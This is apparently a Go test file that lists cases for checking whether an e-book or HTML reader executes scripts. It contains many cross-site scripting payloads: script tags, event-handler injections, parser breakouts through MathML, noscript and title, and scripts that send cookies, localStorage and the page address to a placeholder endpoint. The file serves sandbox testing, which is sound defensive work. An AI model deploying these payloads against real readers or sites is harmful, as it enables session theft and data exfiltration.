package booktest

// triesToRun hold scripts as such.
func triesToRun() []Try {
	return []Try{
		{Name: "a script in the body", Body: `<script>{run}</script>`},
		{Name: "a script in the head", Head: `<script>{run}</script>`},
		{Name: "a script in a CDATA section", Body: `<script><![CDATA[{run}]]></script>`},
		{Name: "a module", Type: HTML, Body: `<script type="module">{run}</script>`},
		{Name: "a deferred script of the book", Head: `<script defer="defer" src="deferred.js"></script>`, Beside: map[string]string{"deferred.js": `{run}`}},
		{Name: "a module of the book", Type: HTML, Body: `<script type="module" src="module.js"></script>`, Beside: map[string]string{"module.js": `{run}`}},
		{Name: "a script from elsewhere", Body: `<script src="{script}"></script>`},
		{Name: "a script with a prefix", Body: `<h:script xmlns:h="http://www.w3.org/1999/xhtml">{run}</h:script>`},
		{Name: "a script in capitals", Type: HTML, Body: `<SCRIPT>{run}</SCRIPT>`},
		{Name: "a script with a slash in its tag", Type: HTML, Body: `<script/x>{run}</script>`},
		{Name: "a script whose end has attributes", Type: HTML, Body: `<script>{run}</script x="y">`},
		{Name: "an import map and a module", Type: HTML, Body: `<script type="importmap">{"imports":{"x":"{script}"}}</script><script type="module">import 'x'</script>`},
		{Name: "speculation rules", Type: HTML, Body: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{api}"],"eagerness":"immediate"}]}</script>`},
		{Name: "a switch with a script in its case", Body: `<epub:switch id="s"><epub:case required-namespace="http://www.w3.org/2000/svg"><script>{run}</script></epub:case><epub:default><p>x</p></epub:default></epub:switch>`},
		{Name: "a trigger", Body: `<epub:trigger xmlns:ev="http://www.w3.org/2001/xml-events" action="show" ref="here" ev:event="click" ev:observer="here"/>`, Old: true},
		{Name: "a handler of XML Events", Body: `<handler xmlns="http://www.w3.org/2001/xml-events" event="load">{run}</handler>`, Old: true},
		{Name: "a script after what looks like a comment", Type: HTML, Body: `<!--><script>{run}</script>-->`},
		{Name: "an applet", Type: HTML, Body: `<applet code="x.class" codebase="{call}"></applet>`, Old: true},
	}
}

// triesOfEvents hang a script on something that happens.
func triesOfEvents() []Try {
	return []Try{
		{Name: "a picture that is missing", Body: `<img src="missing.png" alt="" onerror="{run}"/>`},
		{Name: "a page that is loaded", Open: `onload="{run}"`},
		{Name: "a page that is shown", Open: `onpageshow="{run}"`},
		{Name: "a click", Body: `<p class="bait" onclick="{run}">press</p>`},
		{Name: "a pointer that comes over", Body: `<p class="bait" onpointerover="{run}">press</p>`},
		{Name: "a field that has the focus", Body: `<input autofocus="autofocus" onfocus="{run}"/>`},
		{Name: "a paragraph that has the focus", Body: `<p tabindex="0" autofocus="autofocus" onfocus="{run}">x</p>`},
		{Name: "details that open", Body: `<details open="open" ontoggle="{run}"><summary>x</summary>y</details>`},
		{Name: "an animation that starts", Head: `<style>@keyframes k{from{color:red}to{color:blue}} #a{animation:k 1s}</style>`, Body: `<p id="a" onanimationstart="{run}">x</p>`},
		{Name: "what comes into view", Body: `<p style="content-visibility:auto" oncontentvisibilityautostatechange="{run}">x</p>`},
		{Name: "a film that fails", Body: `<video onerror="{run}" src="missing.mp4"></video>`},
		{Name: "a source that fails", Body: `<audio><source onerror="{run}" src="missing.mp3"/></audio>`},
		{Name: "a style sheet that is loaded", Body: `<style onload="{run}">p{color:red}</style>`},
		{Name: "a link that fails", Head: `<link rel="stylesheet" href="missing.css" onerror="{run}"/>`},
		{Name: "a frame that is loaded", Body: `<iframe onload="{run}" srcdoc="x"></iframe>`},
		{Name: "text that rolls", Type: HTML, Body: `<marquee onstart="{run}">x</marquee>`, Old: true},
		{Name: "a handler behind a slash", Type: HTML, Body: `<img/src="missing.png"/onerror="{run}">`},
		{Name: "an element of no standard", Body: `<custom-thing tabindex="0" autofocus="autofocus" onfocus="{run}">x</custom-thing>`},
	}
}

// triesInMath use what MathML lets in.
func triesInMath() []Try {
	const math = `<math xmlns="http://www.w3.org/1998/Math/MathML">`
	return []Try{
		{Name: "a script in an annotation", Body: math + `<semantics><mi>x</mi><annotation-xml encoding="text/html"><script xmlns="http://www.w3.org/1999/xhtml">{run}</script></annotation-xml></semantics></math>`},
		{Name: "a picture in a formula's text", Body: math + `<mtext><img xmlns="http://www.w3.org/1999/xhtml" src="missing.png" alt="" onerror="{run}"/></mtext></math>`},
		{Name: "a handler on a formula", Body: `<math xmlns="http://www.w3.org/1998/Math/MathML" class="bait" onclick="{run}"><mi>x</mi></math>`},
		{Name: "a formula that is styled from elsewhere", Body: `<math xmlns="http://www.w3.org/1998/Math/MathML" style="display:block;background:url({call})"><mi>x</mi></math>`},
		{Name: "a formula that is a link", Body: `<math xmlns="http://www.w3.org/1998/Math/MathML" class="bait" href="javascript:{run}"><mi>x</mi></math>`, Old: true},
		{Name: "an action in a formula", Body: math + `<maction actiontype="statusline#{call}" xlink:href="javascript:{run}"><mi>x</mi><mi>y</mi></maction></math>`, Old: true},
		{Name: "a style that breaks out of a formula", Type: HTML, Body: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={run}&gt;"><img src=missing.png onerror="{run}">`},
	}
}

// triesOfSyntax hope that two readers see two different documents.
func triesOfSyntax() []Try {
	return []Try{
		{Name: "an entity that is a script", Prolog: `<!DOCTYPE html [<!ENTITY x "<script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>">]>`, Body: `&x;`},
		{Name: "an entity from elsewhere", Prolog: `<!DOCTYPE html [<!ENTITY x SYSTEM "{call}">]>`, Body: `&x;`, Old: true},
		{Name: "a style sheet by an instruction", Prolog: `<?xml-stylesheet type="text/css" href="{call}"?>`, Body: `x`},
		{Name: "a style sheet of the book by an instruction", Prolog: `<?xml-stylesheet type="text/css" href="instructed.css"?>`, Body: `x`, Beside: map[string]string{"instructed.css": `#here{background:url({call})}`}},
		{Name: "an attribute that ends noscript", Type: HTML, Body: `<noscript><p title="</noscript><img src=missing.png onerror='x'>"></noscript><img src=missing.png onerror="{run}">`},
		{Name: "a title that ends itself", Type: HTML, Head: `<title></title><script>{run}</script></title>`},
		{Name: "a style that ends itself", Type: HTML, Head: `<style>/*</style><script>{run}</script>*/</style>`},
		{Name: "a textarea that ends itself", Type: HTML, Body: `<textarea></textarea><script>{run}</script></textarea>`},
		{Name: "a frame without frames", Type: HTML, Body: `<noframes></noframes><script>{run}</script></noframes>`},
		{Name: "a shadow root with a script's handler", Type: HTML, Body: `<div><template shadowrootmode="open"><img src=missing.png onerror="{run}"></template></div>`},
		{Name: "a script in Windows's letters", Type: HTML, Head: `<meta charset="windows-1252">`, Body: "<script>{run}</script>\x85"},
		{Name: "an attribute without its quote", Type: HTML, Body: `<p title="x><img src=missing.png onerror={run}>"><img src=missing.png onerror="{run}">`},
		{Name: "an attribute that is there twice", Type: HTML, Body: `<img src=missing.png alt="x" alt="y" onerror="{run}" onerror="">`},
		{Name: "a null in a tag", Type: HTML, Body: "<img src=missing.png onerror=\"{run}\"><scr\x00ipt>x</scr\x00ipt>"},
	}
}

// triesOfScripts are what a script would do here, if one ran.
func triesOfScripts() []Try {
	script := func(name, does string) Try {
		return Try{Name: name, Body: "<script><![CDATA[" + does + "]]></script>"}
	}
	return []Try{
		script("a script that tells the page's address", `fetch('{ran}', {method: 'POST', mode: 'no-cors', body: (() => { try { return top.location.href } catch (e) { return 'x' } })()})`),
		script("a script that tells the cookies", `navigator.sendBeacon('{ran}', (() => { try { return top.document.cookie } catch (e) { return 'x' } })())`),
		script("a script that tells what the browser keeps", `fetch('{ran}', {method: 'POST', mode: 'no-cors', body: JSON.stringify(Object.assign({}, localStorage))})`),
		script("a script that keeps something", `localStorage.setItem('ran', '1'); document.cookie = 'ran=1'; {run}`),
		script("a script that reads another book", `fetch('{other}').then(r => r.text()).then(t => {run})`),
		script("a script that asks the library", `fetch('{api}', {credentials: 'include'}).then(r => r.text()).then(t => {run})`),
		script("a script that loads a picture of another book", `new Image().src = '{other}'`),
		script("a script that leads the top window away", `top.location = '{call}'`),
		script("a script that opens a window", `open('{call}')`),
		script("a script that opens a socket", `new WebSocket('ws://{host}')`),
		script("a script that starts a worker", `new Worker(URL.createObjectURL(new Blob(["fetch('{ran}', {mode: 'no-cors'})"])))`),
		script("a script that listens to events", `new EventSource('{call}')`),
		script("a script that writes the document", `var i = document.createElementNS('http://www.w3.org/1999/xhtml', 'img'); i.src = '{call}'; document.documentElement.appendChild(i)`),
	}
}
